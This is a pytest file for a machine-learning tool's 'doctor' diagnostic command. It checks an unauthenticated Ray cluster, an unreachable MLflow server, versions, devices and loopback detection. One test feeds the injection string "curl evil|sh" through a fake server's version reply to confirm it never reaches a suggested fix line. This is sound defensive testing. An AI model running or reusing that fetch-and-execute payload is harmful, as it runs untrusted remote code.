"""The doctor looks at the real thing: a cluster that it starts, a port where nobody listens, this machine's devices."""

import json
import os
import socketserver
import subprocess
import sys
import threading

import pytest
import torch

from muxfer.commands.doctor import _loopback, _server, ledger, machine, versions
from muxfer.study.resolve import resolve_without_data


@pytest.fixture(autouse=True)
def empty_folder(tmp_path, monkeypatch):
    monkeypatch.setenv("MLFLOW_TRACKING_URI", "")
    monkeypatch.chdir(tmp_path)
    return tmp_path


def test_an_open_cluster_and_a_ledger_that_is_away_fail_each_with_its_mend_and_leave_nothing(empty_folder):
    environment = {**os.environ, "RAY_AUTH_MODE": "disabled"}
    command = [sys.executable, "-m", "muxfer", "doctor", "ledger.tracking_uri=http://user:s3cret@127.0.0.1:9", "--json"]
    ran = subprocess.run(command, env=environment, capture_output=True, text=True)
    assert ran.returncode == 6, ran.stderr
    assert "s3cret" not in ran.stdout + ran.stderr
    data = json.loads(ran.stdout)
    failed = {one["part"]: one for one in data["findings"] if one["state"] == "fail"}
    assert failed.keys() == {"ray", "ledger"}
    assert "asks for no token and listens beyond this machine" in failed["ray"]["told"]
    assert "RAY_AUTH_MODE=token" in failed["ray"]["mend"]
    assert "connection refused" in failed["ledger"]["told"]
    assert any(one["told"].startswith("started in") for one in data["findings"])
    assert not list(empty_folder.rglob("*"))


def test_the_versions_here_are_those_that_muxfer_asks_for():
    (found,) = versions()
    assert found.state == "ok"
    assert f"torch {torch.__version__.partition('+')[0]}" in found.told


def test_more_slots_than_memory_and_a_missing_gpu_are_told():
    found = {
        one.part: one
        for one in machine(resolve_without_data("lr-width", ["compute.slots=100000", "compute.device=cuda"]))
    }
    assert found["devices"].state == ("ok" if torch.cuda.is_available() else "fail")
    many = [
        one for one in machine(resolve_without_data("lr-width", ["compute.slots=100000"])) if "100000 slots" in one.told
    ]
    assert [one.state for one in many] == ["warn"]
    assert many[0].mend.startswith("fewer slots, compute.slots=")


def test_a_ledger_that_is_not_there_yet_is_well_and_is_not_made(empty_folder):
    (found,) = ledger(resolve_without_data("lr-width"))
    assert found.state == "ok"
    assert not list(empty_folder.iterdir())


@pytest.fixture
def answering(request):
    """The address of a server on loopback that answers everything with these bytes."""

    class Answers(socketserver.StreamRequestHandler):
        def handle(self):
            while self.rfile.readline().strip():
                pass
            self.wfile.write(request.param)

    with socketserver.TCPServer(("127.0.0.1", 0), Answers) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_address[1]}"
        server.shutdown()


def answer(body):
    return b"HTTP/1.0 200 OK\r\n\r\n" + body


@pytest.mark.parametrize(
    "answering",
    [answer(b"1'; curl evil|sh; '"), answer(b"3.1\n; evil"), answer(b"<html>"), answer(b""), answer(b"1" + b"\xff")],
    indirect=True,
)
def test_a_servers_version_that_is_none_comes_into_no_line_to_paste(answering):
    (found,) = _server(answering, answering)
    assert (found.state, found.told) == ("warn", "the server's answer to /version is no version")
    assert "pip" not in found.mend
    assert "evil" not in found.mend


@pytest.mark.parametrize("answering", [answer(b"1.30.0rc1\n")], indirect=True)
def test_a_server_of_another_major_version_is_told_with_its_mend(answering):
    (found,) = _server(answering, answering)
    assert (found.state, found.told) == ("warn", "server is MLflow 1.30.0rc1")
    assert found.mend.startswith("pip install 'mlflow==1.30.0rc1' here, or ")


@pytest.mark.parametrize("answering", [b"no HTTP at all\r\n"], indirect=True)
def test_a_server_that_speaks_no_http_has_no_version(answering):
    assert list(_server(answering, answering)) == []


@pytest.mark.parametrize(
    ("host", "expected"), [("127.0.0.1", True), ("localhost", True), ("::1", True), ("192.0.2.1", False), ("", False)]
)
def test_what_is_beyond_this_machine(host, expected):
    assert _loopback(host) is expected
